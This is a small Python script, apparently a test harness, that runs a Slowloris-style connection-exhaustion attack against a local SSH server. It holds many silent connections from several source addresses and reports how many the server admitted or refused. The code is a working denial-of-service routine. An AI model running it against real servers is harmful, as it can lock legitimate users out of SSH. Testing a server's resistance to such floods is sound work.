#!/usr/bin/env python3
"""Slowloris against the SSH server: holds COUNT connections from each SRC
address that never send an SSH version string, closes and reopens them
every RENEW seconds, for DURATION seconds in all. Prints one line at the
end: "admitted A refused R" (a connection counts as admitted when the
server sent its version string, refused when it closed first).
Usage: slowloris.py PORT DURATION RENEW COUNT SRC [SRC...]"""
import socket
import sys
import time

port, duration, renew, count = (int(sys.argv[1]), float(sys.argv[2]),
                                float(sys.argv[3]), int(sys.argv[4]))
srcs = sys.argv[5:]
admitted = refused = 0
end = time.monotonic() + duration
while time.monotonic() < end:
    socks = []
    for src in srcs:
        for _ in range(count):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.bind((src, 0))
                s.connect(("127.0.0.1", port))
                data = s.recv(256)
            except OSError:
                data = b""
            if data.startswith(b"SSH-2.0-"):
                admitted += 1
            else:
                refused += 1
            socks.append(s)
    # Hold them silently until the next round (or the end).
    time.sleep(max(0.0, min(renew, end - time.monotonic())))
    for s in socks:
        s.close()
print("admitted %d refused %d" % (admitted, refused))
